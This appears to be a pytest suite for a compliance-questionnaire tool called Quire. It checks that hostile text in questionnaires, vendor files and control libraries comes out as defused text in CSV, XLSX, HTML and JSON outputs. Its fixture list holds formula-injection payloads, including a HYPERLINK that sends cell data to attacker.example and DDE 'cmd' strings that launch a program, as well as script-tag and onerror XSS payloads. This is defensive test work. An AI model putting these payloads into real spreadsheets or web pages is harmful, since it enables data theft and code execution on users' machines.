"""Untrusted text never becomes something a program runs. A questionnaire and a vendor's file
whose cells hold formula starts (`=`, `+`, `-`, `@`, tab, carriage return) and HTML (`<script>`,
an `onerror` attribute) go through `quire run`, `quire answer`, `quire assess`, `quire inspect`
and `quire convert`. Then:

- no CSV cell Quire wrote starts a formula, unless defused with a leading apostrophe;
- no XLSX cell holds a formula except the assessment's own score formulas, which hold no text;
- the customer's filled CSV keeps its own cells as they were (Quire never rewrites them), and
  what Quire wrote into it is defused;
- report.html and run.md carry the HTML only escaped, and JSON outputs parse;
- a library whose own text is hostile (controls, evidence, a framework it adds, justifications)
  reaches the crosswalk, SoA, gaps, requirements and controls listings and the tables `convert`
  writes as text, never as a formula.
"""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.quire
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Do you encrypt data at rest?\")",
    "+cmd|' /C calc'!A0 Is multi-factor authentication enforced for all staff?",
    "-2+3+cmd|' /C calc'!A0 Do you run annual penetration tests?",
    "@SUM(1+1)*cmd|' /C calc'!A0 Do you keep backups offsite?",
    "<script>alert('q')</script> Do you have an incident response plan?",
    "<img src=x onerror=alert(1)> Are security logs retained for a year?",
]


def quire(*arguments: str, cwd: Path) -> subprocess.CompletedProcess:
    binary = str(Path(os.environ["QUIRE_BIN"]).resolve())
    return subprocess.run([binary, *arguments], cwd=cwd, capture_output=True, timeout=600)


@pytest.fixture(scope="module")
def workspace(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copytree(ROOT / "samples", folder / "samples", ignore=shutil.ignore_patterns("*.py"))
    rows = [["ID", "Question", "Answer", "Comment"]]
    rows += [[f"H-{index}", text, "", ""] for index, text in enumerate(HOSTILE, start=1)]
    with (folder / "samples" / "hostile.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    vendor = [["#", "Requirement", "Supplier Response"]]
    vendor += [[str(index), text.split(" ", 1)[-1], text] for index, text in enumerate(HOSTILE, start=1)]
    with (folder / "samples" / "vendors" / "hostile-vendor.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(vendor)
    config = yaml.safe_load((ROOT / "samples" / "nightly.yaml").read_text(encoding="utf-8"))
    config["output"] = "../out"
    config["answer"]["questionnaires"].append("hostile.csv")
    (folder / "samples" / "nightly.yaml").write_text(yaml.safe_dump(config, sort_keys=False), encoding="utf-8")
    run = quire("run", "samples/nightly.yaml", "--quiet", cwd=folder)
    assert run.returncode in (0, 1), run.stderr.decode(errors="replace")
    library = ["--library", "samples/library", "--as-of", "2026-11-29"]
    extra = folder / "extra"
    extra.mkdir()
    for arguments, output in [
        (["answer", "samples/hostile.csv", *library, "--format", "csv"], "answers.csv"),
        (["answer", "samples/hostile.csv", *library, "--format", "json"], "answers.json"),
        (["assess", "samples/vendors/hostile-vendor.csv", *library[:2], "--format", "csv"], "assessment.csv"),
        (["assess", "samples/vendors/hostile-vendor.csv", *library[:2], "--format", "json"], "assessment.json"),
        (["cat", "samples/hostile.csv", "--format", "csv"], "cat.csv"),
    ]:
        if arguments[0] == "assess":
            arguments = arguments[:-2] + ["-o", str(extra / output)]
        result = quire(*arguments, cwd=folder)
        assert result.returncode in (0, 1), (arguments, result.stderr.decode(errors="replace"))
        if arguments[0] != "assess":
            (extra / output).write_bytes(result.stdout)
    answered = quire("answer", "samples/hostile.csv", *library, "-o", str(extra / "filled.csv"),
                     "--review", str(extra / "review.xlsx"), "--write-proposals", cwd=folder)
    assert answered.returncode in (0, 1), answered.stderr.decode(errors="replace")
    return folder


def csv_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig", errors="replace")
    dialect = csv.Sniffer().sniff(text[:4096], delimiters=",;\t") if path.name.endswith(".filled.csv") else csv.excel
    return [cell for row in csv.reader(io.StringIO(text), dialect) for cell in row]


def written_csvs(folder: Path) -> list[Path]:
    return [p for p in (folder / "out").rglob("*.csv") if not p.name.endswith(".filled.csv")] + \
        [p for p in (folder / "extra").glob("*.csv") if p.name != "filled.csv"]


def test_the_hostile_text_reached_the_outputs(workspace):
    """Otherwise the other checks would pass vacuously."""
    review = (workspace / "out" / "answers" / "hostile.review.csv").read_text(encoding="utf-8")
    assert "HYPERLINK" in review and "<script>" in review
    assert "cmd|" in (workspace / "extra" / "assessment.csv").read_text(encoding="utf-8")


def test_no_csv_cell_quire_writes_starts_a_formula(workspace):
    offending = []
    for path in written_csvs(workspace):
        for cell in csv_cells(path):
            if cell.startswith(FORMULA_STARTS):
                offending.append((path.name, cell[:60]))
    assert offending == []


def test_the_filled_csv_keeps_the_customers_cells_and_defuses_what_quire_wrote(workspace):
    original = list(csv.reader(io.StringIO((workspace / "samples" / "hostile.csv").read_text(encoding="utf-8"))))
    for filled_path in [workspace / "out" / "answers" / "hostile.filled.csv", workspace / "extra" / "filled.csv"]:
        filled = list(csv.reader(io.StringIO(filled_path.read_bytes().decode("utf-8-sig"))))
        assert len(filled) == len(original)
        for row_before, row_after in zip(original, filled):
            for index, before in enumerate(row_before):
                after = row_after[index] if index < len(row_after) else ""
                if after != before:
                    assert before == "", f"{filled_path.name}: a customer's cell was rewritten: {before!r}"
                    assert not after.startswith(FORMULA_STARTS), after


def test_no_workbook_cell_holds_a_formula_but_the_assessments_own_scores_and_the_customers_own(workspace):
    """A filled copy keeps the customer's own formulas (the same cell, the same formula); any other
    formula is the assessment's score, which refers only to cells."""
    originals = {"globex-vendor-assessment.filled.xlsx": ROOT / "samples" / "globex-vendor-assessment.xlsx",
                 "contoso-cloud-review.filled.xlsx": ROOT / "samples" / "contoso-cloud-review.xlsx"}
    books = list((workspace / "out").rglob("*.xlsx")) + list((workspace / "extra").glob("*.xlsx"))
    assert len(books) >= 4
    scores = 0
    for book_path in books:
        book = openpyxl.load_workbook(book_path)
        original = openpyxl.load_workbook(originals[book_path.name]) if book_path.name in originals else None
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type != "f":
                        continue
                    if original is not None:
                        assert original[sheet.title][cell.coordinate].value == cell.value, (book_path.name, cell.coordinate)
                        continue
                    assert book_path.name == "vendors.xlsx" and sheet.title == "Scores", (book_path.name, cell.coordinate)
                    assert set(str(cell.value)) <= set("=()+-*/.0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ:"), cell.value
                    scores += 1
    assert scores > 0


def test_the_report_and_the_summary_carry_the_html_only_escaped(workspace):
    from html.parser import HTMLParser

    class Elements(HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags, self.handlers = set(), []

        def handle_starttag(self, tag, attrs):
            self.tags.add(tag)
            self.handlers += [name for name, _ in attrs if name.startswith("on")]

    report = (workspace / "out" / "report.html").read_text(encoding="utf-8")
    page = Elements()
    page.feed(report)
    assert "script" not in page.tags and "img" not in page.tags and page.handlers == []
    assert "&lt;script&gt;alert(" in report and "&lt;img src=x onerror=alert(1)&gt;" in report
    markdown = (workspace / "out" / "run.md").read_text(encoding="utf-8")
    assert "<script" not in markdown.lower() and "<img" not in markdown.lower()


def test_json_outputs_parse_and_keep_the_text_as_text(workspace):
    answers = json.loads((workspace / "extra" / "answers.json").read_bytes())
    questions = [item["question"] for item in answers["answers"]]
    assert HOSTILE[4] in questions
    json.loads((workspace / "extra" / "assessment.json").read_bytes())
    json.loads((workspace / "out" / "run.json").read_bytes())


@pytest.fixture(scope="module")
def library_outputs(tmp_path_factory) -> Path:
    """A library whose own text is hostile (a control imported from another tool, an evidence
    title, an approved answer), through every command that writes a library's text into a
    spreadsheet or a table: crosswalk, SoA, gaps and requirements (of a framework the library
    adds, its titles hostile), controls, and convert to Drata's CSV and to tables (CSV and XLSX)."""
    folder = tmp_path_factory.mktemp("hostile-library")
    shutil.copytree(ROOT / "samples" / "library", folder / "lib")
    with (folder / "lib" / "custom-controls.csv").open("a", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerow(["LA-99", HOSTILE[0], HOSTILE[1], HOSTILE[4], HOSTILE[2], "A.5.1", "CC1.1",
                                     "Art.32", "GV.PO-01"])
    with (folder / "lib" / "evidence.csv").open("a", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerow(["EV-999", HOSTILE[3], "policy", "LA-99", "2026-01-01", "2027-01-01", "",
                                     HOSTILE[0], HOSTILE[5], HOSTILE[2]])
    (folder / "lib" / "hostile.yaml").write_text(yaml.safe_dump({
        "format": "quire-library/1",
        "frameworks": [{"id": "acme-policy", "name": HOSTILE[1], "version": "2026", "requirements": [
            {"id": "1", "title": HOSTILE[0], "kind": "requirement"},
            {"id": "2", "title": HOSTILE[4], "kind": "requirement"}]}],
        "implementation": [{"control": "LA-99", "status": "not-applicable", "justification": HOSTILE[0],
                            "owner": HOSTILE[2], "notes": HOSTILE[3]}],
    }, sort_keys=False), encoding="utf-8")
    # GOV-06 alone implements A.5.3: excluded with a hostile justification, which the SoA prints.
    implementation = yaml.safe_load((folder / "lib" / "implementation.yaml").read_text(encoding="utf-8"))
    for record in implementation["implementation"]:
        if record["control"] == "GOV-06":
            record.update(status="not-applicable", justification=HOSTILE[2])
            record.pop("reasons", None)
    (folder / "lib" / "implementation.yaml").write_text(yaml.safe_dump(implementation, sort_keys=False),
                                                        encoding="utf-8")
    out = folder / "out"
    out.mkdir()
    library = ["--library", "lib"]
    commands = [
        ["crosswalk", *library, "--as-of", "2026-11-29", "-o", "out/crosswalk.xlsx"],
        ["soa", *library, "--as-of", "2026-11-29", "-o", "out/soa.xlsx"],
        ["gaps", *library, "--framework", "acme-policy", "--as-of", "2026-11-29", "--format", "csv",
         "-o", "out/gaps.csv"],
        ["gaps", *library, "--framework", "acme-policy", "--as-of", "2026-11-29", "--format", "xlsx",
         "-o", "out/gaps.xlsx"],
        ["requirements", "acme-policy", *library, "--format", "csv", "-o", "out/requirements.csv"],
        ["controls", *library, "--format", "csv", "-o", "out/controls.csv"],
        ["convert", "lib", "--to", "drata", "-o", "out/drata.csv"],
        ["convert", "lib", "--to", "table", "-o", "out/table.csv"],
        ["convert", "lib", "--to", "table", "-o", "out/table.xlsx"],
    ]
    for arguments in commands:
        result = quire(*arguments, cwd=folder)
        assert result.returncode in (0, 1), (arguments, result.stderr.decode(errors="replace")[-800:])
    return out


def test_a_hostile_library_reaches_every_table_as_text_never_as_a_formula(library_outputs):
    reached, offending = set(), []
    for path in sorted(library_outputs.iterdir()):
        if path.suffix == ".csv":
            cells = csv_cells(path)
        elif path.suffix == ".xlsx":
            cells = []
            for sheet in openpyxl.load_workbook(path).worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        if cell.data_type == "f":
                            offending.append((path.name, cell.coordinate, str(cell.value)[:60]))
                        elif cell.value is not None:
                            cells.append(str(cell.value))
        else:
            continue
        for cell in cells:
            if "HYPERLINK" in cell or "cmd|" in cell:
                reached.add(path.name)
            if path.suffix == ".csv" and cell.startswith(FORMULA_STARTS):
                offending.append((path.name, cell[:60]))
    assert offending == []
    # The hostile text is in every output, as text: otherwise the check above proves nothing.
    assert reached == {"crosswalk.xlsx", "soa.xlsx", "gaps.csv", "gaps.xlsx", "controls.csv", "drata.csv",
                       "table.csv", "table.xlsx", "requirements.csv"}, reached
